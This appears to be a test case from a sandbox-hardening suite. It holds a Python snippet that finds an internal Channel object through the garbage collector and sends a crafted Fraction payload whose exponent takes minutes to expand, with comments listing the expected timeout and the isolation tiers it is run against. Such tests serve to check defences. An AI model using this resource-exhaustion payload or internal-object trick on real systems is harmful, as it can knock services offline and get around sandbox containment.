# trick: sends a fraction whose numerator is text, with an exponent that takes minutes to expand
# outcome: timeout or forbidden action
# tiers: bwrap namespaces landlock rlimits
import gc

channel = next(o for o in gc.get_objects() if type(o).__name__ == "Channel")


def f(xs):
    channel.send({"value": {"nodes": [["Fraction", ["1e999999999"]]], "item": [0]}})
    return xs
